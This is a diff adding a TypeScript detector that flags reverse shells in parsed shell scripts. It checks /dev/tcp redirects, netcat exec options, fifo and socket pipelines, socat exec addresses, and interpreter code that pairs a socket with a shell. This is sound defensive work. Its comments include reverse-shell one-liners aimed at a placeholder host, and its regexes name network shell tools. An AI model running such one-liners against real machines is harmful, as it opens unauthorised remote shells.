@@ -1,0 +1,88 @@
+import { SHELL_NAMES } from '../../../knowledge/commands.ts';
+import { isLoopbackHost } from '../../../knowledge/hosts.ts';
+import type { Command, CommandScript } from '../model.ts';
+import { interpretation, pipedInto } from './flow.ts';
+import { memoize } from './types.ts';
+import type { ShellFinding } from './types.ts';
+
+export type ReverseShellKind = 'device' | 'netcat' | 'pipe' | 'socat' | 'code';
+export type ReverseShell = ShellFinding<ReverseShellKind>;
+
+/** A shell whose input and output are a socket. Port probes and transfers without a shell are none. */
+export const findReverseShell = memoize((script: CommandScript): readonly ReverseShell[] => {
+  const found: ReverseShell[] = [];
+  for (const command of script.commands) {
+    const finding = throughDevice(command, script) ?? throughNetcat(command) ?? throughPipe(command, script) ?? throughSocat(command) ?? throughCode(command);
+    if (finding) found.push(finding);
+  }
+  return found;
+});
+
+const isShell = (command: Command): boolean => command.name !== null && (SHELL_NAMES.has(command.name) || /^(?:cmd|powershell|pwsh)$/i.test(command.name));
+
+function report(command: Command, kind: ReverseShellKind, detail: string): ReverseShell {
+  return { at: command.range, kind, label: command.name ?? 'a shell', detail, level: 'high', command };
+}
+
+/** `bash -i >& /dev/tcp/h/p 0>&1`; `exec 5<>/dev/tcp/h/p` and later a shell or command loop on that descriptor. */
+function throughDevice(command: Command, script: CommandScript): ReverseShell | null {
+  const device = command.redirects.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.value));
+  if (!device) return null;
+  const host = device.target.value.split('/')[3] ?? '';
+  if (isLoopbackHost(host)) return null;
+  if (isShell(command) && interpretation(command)?.readsInput === true) return report(command, 'device', host);
+  if (command.name !== 'exec' && command.name !== null) return null;
+  const later = script.commands.find((other) => other.range[0] > command.range[0] && runsDescriptor(other));
+  return later ? report(later, 'device', host) : null;
+}
+
+/** A shell that reads a numbered descriptor, or a command that is whatever was read from one. */
+function runsDescriptor(command: Command): boolean {
+  const reads = command.redirects.some(({ operator, target }) => operator.startsWith('<') && /^&?\d{1,4}$/.test(target.value));
+  if (isShell(command)) return reads;
+  return command.name === null && command.redirects.some(({ operator, target }) => operator.startsWith('>') && /^&?[3-9]\d{0,3}$/.test(target.value));
+}
+
+function throughNetcat(command: Command): ReverseShell | null {
+  const name = command.name?.toLowerCase() ?? '';
+  if (!/^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(name)) return null;
+  const index = command.args.findIndex(({ value }) => /^(?:-[a-zA-Z]{0,8}[ec]|--exec|--sh-exec|--lua-exec)(?:=|$)/.test(value));
+  const option = command.args[index];
+  if (!option) return null;
+  const program = /=/.test(option.value) ? option.value : (command.args[index + 1]?.value ?? '');
+  const isProgram = /(?:sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|python\d?|perl)(?:["'\s]|$)/i.test(program) || program.includes('\uE000');
+  return isProgram ? report(command, 'netcat', program) : null;
+}
+
+const SOCKETS = /^(?:nc|ncat|netcat|telnet|socat|websocat)$/i;
+const isSocket = (command: Command): boolean => (command.name !== null && SOCKETS.test(command.name)) || (command.name === 'openssl' && command.args[0]?.value === 's_client');
+
+/** `mkfifo p; cat p | sh -i | nc h 1 > p`, `nc h 1 | sh | nc h 2`, `telnet … | sh | telnet …`. */
+function throughPipe(command: Command, script: CommandScript): ReverseShell | null {
+  if (!isSocket(command)) return null;
+  const shell = pipedInto(command).find((stage) => isShell(stage) && interpretation(stage)?.readsInput === true && !stage.input);
+  if (!shell || shell.upstream.length === 0) return null;
+  const fifo = script.commands.some(({ name }) => name === 'mkfifo' || name === 'mknod');
+  const fromSocket = pipedInto(shell).some(isSocket);
+  const interactive = shell.args.some(({ value }) => /^-[a-z]{0,4}i/.test(value));
+  return fifo || fromSocket || interactive ? report(command, 'pipe', shell.name ?? '') : null;
+}
+
+function throughSocat(command: Command): ReverseShell | null {
+  if (command.name?.toLowerCase() !== 'socat') return null;
+  const program = command.args.find(({ value }) => /^(?:exec|system|shell):["']?(?:.{0,100}\/)?(?:(?:ba|z|da|k|a)?sh|cmd|powershell|login|su)\b/i.test(value));
+  const socket = command.args.find(({ value }) => /^(?:tcp|udp|openssl|ssl|sctp)[\w-]{0,20}:/i.test(value));
+  return program && socket ? report(command, 'socat', socket.value) : null;
+}
+
+/** Inline code of an interpreter that has both a socket and a shell. */
+function throughCode(command: Command): ReverseShell | null {
+  const name = command.name?.toLowerCase() ?? '';
+  const isPowershell = /^(?:powershell|pwsh|iex|invoke-expression|\$?client)$/.test(name) || command.dialect === 'powershell';
+  const words = isPowershell ? [command.word, ...command.args] : command.args;
+  if (!isPowershell && !/^(?:python[\d.]*|perl|ruby|php|lua|awk|gawk|node|bun|tclsh|expect)$/.test(name)) return null;
+  const code = words.map(({ text }) => text).join(' ').slice(0, 8192);
+  const socket = /socket\.socket|\bsocket\s{0,3}\(|IO::Socket|TCPSocket|fsockopen|stream_socket_client|\/inet\/tcp\/|require\s{0,3}\(\s{0,3}["']net["']|net\.connect|createConnection|Net\.Sockets\.TCPClient|socket\.tcp/i.test(code);
+  const shell = /\/bin\/(?:ba|z|da)?sh|\bpty\.spawn|dup2|exec\s{0,3}["'(]|child_process|\bspawn\s{0,3}\(|cmd\.exe|\biex\b|invoke-expression|GetStream\(\)[^\n]{0,2000}\biex\b/i.test(code);
+  return socket && shell ? report(command, 'code', name) : null;
+}
